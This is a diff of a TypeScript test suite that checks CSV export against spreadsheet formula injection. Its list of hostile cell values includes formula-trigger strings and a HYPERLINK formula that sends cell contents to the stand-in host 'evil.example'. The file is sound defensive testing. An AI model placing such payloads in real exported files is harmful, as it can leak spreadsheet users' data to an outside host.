@@ -30,18 +30,11 @@ function cellsBy(separator: string, file: string): string[] {
 }
 
 const HOSTILE = [
-  '=1+1',
-  '＝1+1',
-  ' +1',
-  '"=1+1"',
-  '\t=1+1',
-  '\n=1+1',
+  ...['=1+1', '＝1+1', ' +1', '＋1', '－1', '＠SUM(A1)', '@SUM(A1)', '"=1+1"', '\t=1+1', '\n=1+1'],
   'A message;=HYPERLINK("https://evil.example?"&A1);and more',
   'A message; "=1+1";',
   'A message;"";=1+1;',
-  'A message\n=1+1\nand more',
-  'A message\r\n@SUM(1)\r\n-1',
-  'A message\t=1+1\t',
+  ...['A message\n=1+1\nand more', 'A message\r\n@SUM(1)\r\n-1', 'A message\t=1+1\t'],
   'quoted ""\n"=1+1\n',
 ];
 
@@ -57,5 +50,6 @@ test.each([',', ';', '\t'])(
 
 test('CSV: other texts stay as they are', () => {
   const text = 'Dear all; it is "2+2 = 4", mail me@example.com.\nThanks, Ann-Marie';
-  expect(toCsv([[text]])).toBe(`\uFEFF"${text.replaceAll('"', '""')}"\r\n`);
+  const cell = `"${text.replaceAll('"', '""')}"`;
+  expect(toCsv([[text, 'b'], [text]])).toBe(`\uFEFF${cell},"b"\r\n${cell}\r\n`);
 });
